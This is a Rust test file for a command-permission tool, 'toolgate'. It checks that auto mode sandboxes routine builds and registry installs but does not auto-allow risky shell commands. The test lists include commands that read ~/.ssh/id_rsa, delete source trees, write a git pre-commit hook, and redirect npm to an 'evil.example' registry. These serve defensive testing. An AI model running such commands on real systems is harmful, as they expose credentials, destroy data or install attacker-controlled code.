//! `toolgate check --mode auto --json` as a user runs it: the real binary, a
//! real workspace, the machine's real sandbox detection.

// A failed setup step should stop a test or bench loudly.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::support;

use serde_json::{Value, json};
use support::cli_env::CliEnv as Env;

fn env() -> Env {
    let e = Env::new();
    std::fs::create_dir_all(e.ws.join("src")).unwrap();
    std::fs::create_dir_all(e.ws.join(".git/hooks")).unwrap();
    e.write(e.home.join(".ssh/id_rsa"), "secret");
    e.write(e.ws.join("a"), "x");
    e
}

fn toolgate(e: &Env, args: &[&str]) -> std::process::Output {
    e.command(args).output().unwrap()
}

fn check(e: &Env, mode: &str, command: &str, extra: &[&str]) -> Value {
    let input = json!({ "command": command }).to_string();
    let mut args = vec!["check", "bash", &input, "--json", "--mode", mode];
    args.extend_from_slice(extra);
    let out = toolgate(e, &args);
    assert!(
        out.status.success(),
        "{command}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

fn sandbox_available(e: &Env) -> bool {
    let out = toolgate(e, &["sandbox", "status", "--json"]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    v["available"].as_bool().unwrap()
}

const ROUTINE: &[&str] = &[
    "cargo build",
    "make",
    "npm test",
    "git commit -m x",
    "python3 -m pytest",
];

const AS_IN_DEFAULT: &[&str] = &[
    "git push",
    "curl https://example.com",
    "rm -rf src",
    "cat ~/.ssh/id_rsa",
    "echo x > .git/hooks/pre-commit",
    "cp a /tmp/x",
];

fn seen(v: &Value) -> (Value, Value, Value) {
    (
        v["decision"].clone(),
        v["source"].clone(),
        v["sandbox"].clone(),
    )
}

#[test]
fn check_mode_auto_allows_routine_work_with_sandbox_true_where_the_sandbox_is_available() {
    let e = env();
    let available = sandbox_available(&e);
    for cmd in ROUTINE {
        let v = check(&e, "auto", cmd, &[]);
        if available {
            assert_eq!(
                seen(&v),
                (json!("allow"), json!("sandbox"), json!(true)),
                "{cmd}: {v}"
            );
        } else {
            assert_eq!(seen(&v), seen(&check(&e, "default", cmd, &[])), "{cmd}");
            assert_eq!(v["sandbox"], json!(false));
        }
    }
    // The detection is remembered in the data directory, so later checks
    // spawn no bubblewrap.
    if available {
        assert!(e.data.join("sandbox-support.json").exists());
    }
}

#[test]
fn check_mode_auto_decides_network_destructive_credentials_protected_and_outside_as_default() {
    let e = env();
    for cmd in AS_IN_DEFAULT {
        let a = check(&e, "auto", cmd, &[]);
        let d = check(&e, "default", cmd, &[]);
        assert_ne!(a["decision"], json!("allow"), "{cmd}: {a}");
        assert_eq!(seen(&a), seen(&d), "{cmd}");
        assert_eq!(a["sandbox"], json!(false), "{cmd}");
    }
}

#[test]
fn check_mode_auto_with_the_sandbox_off_is_default_and_says_sandbox_false() {
    let e = env();
    let off = e.home.join("off.toml");
    std::fs::write(&off, "[sandbox]\nmode = \"off\"\n").unwrap();
    let off = off.display().to_string();
    for cmd in ROUTINE.iter().chain(AS_IN_DEFAULT) {
        let a = check(&e, "auto", cmd, &["--config", &off]);
        let d = check(&e, "default", cmd, &[]);
        assert_eq!(seen(&a), seen(&d), "{cmd}");
        assert_eq!(a["sandbox"], json!(false), "{cmd}");
    }
}

#[test]
fn check_batch_in_mode_auto_answers_each_line() {
    let e = env();
    let available = sandbox_available(&e);
    let batch = e.home.join("batch.jsonl");
    std::fs::write(
        &batch,
        "{\"tool\":\"bash\",\"input\":{\"command\":\"make\"}}\n{\"tool\":\"bash\",\"input\":{\"command\":\"git push\"}}\n",
    )
    .unwrap();
    let out = toolgate(
        &e,
        &[
            "check",
            "--batch",
            &batch.display().to_string(),
            "--mode",
            "auto",
        ],
    );
    assert!(out.status.success());
    let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["sandbox"], json!(available));
    assert_eq!(lines[1]["decision"], json!("ask"));
    assert_eq!(lines[1]["sandbox"], json!(false));
}

const INSTALLS: &[&str] = &[
    "npm install",
    "npm ci",
    "pnpm install",
    "yarn add lodash",
    "pip install -e .",
    ".venv/bin/pip install -r requirements.txt",
    "uv sync",
    "cargo fetch",
    "go mod tidy",
    "go mod download",
];

/// Network that is not a package install from a registry: asked in `auto`
/// exactly as in `default`, even with `allow_domains` set.
const NETWORK_NOT_INSTALL: &[&str] = &[
    "git push",
    "curl https://registry.npmjs.org/x",
    "npm publish",
    "cargo install ripgrep",
    "npm install && curl https://example.com",
    "npm_config_registry=http://evil.example npm install",
    "sudo npm install",
];

#[test]
fn check_mode_auto_runs_registry_installs_in_the_sandbox_only_when_allow_domains_names_registries()
{
    let e = env();
    let available = sandbox_available(&e);
    let proxied = e.home.join("proxied.toml");
    std::fs::write(
        &proxied,
        "[sandbox]\nallow_domains = [\"registry.npmjs.org\", \"pypi.org\", \"proxy.golang.org\"]\n",
    )
    .unwrap();
    let proxied = proxied.display().to_string();
    for cmd in INSTALLS {
        // Without allow_domains: asked, as in default.
        let plain = check(&e, "auto", cmd, &[]);
        assert_eq!(plain["decision"], json!("ask"), "{cmd}: {plain}");
        let v = check(&e, "auto", cmd, &["--config", &proxied]);
        if available {
            assert_eq!(
                seen(&v),
                (json!("allow"), json!("sandbox"), json!(true)),
                "{cmd}: {v}"
            );
            assert!(
                v["reason"].as_str().unwrap().contains("allow_domains"),
                "{cmd}: {v}"
            );
        } else {
            assert_eq!(v["decision"], json!("ask"), "{cmd}: {v}");
        }
        // In default mode, allow_domains changes nothing.
        let d = check(&e, "default", cmd, &["--config", &proxied]);
        assert_eq!(d["decision"], json!("ask"), "{cmd}: {d}");
    }
    for cmd in NETWORK_NOT_INSTALL {
        let a = check(&e, "auto", cmd, &["--config", &proxied]);
        assert_ne!(a["decision"], json!("allow"), "{cmd}: {a}");
        assert_eq!(a["sandbox"], json!(false), "{cmd}: {a}");
    }
}
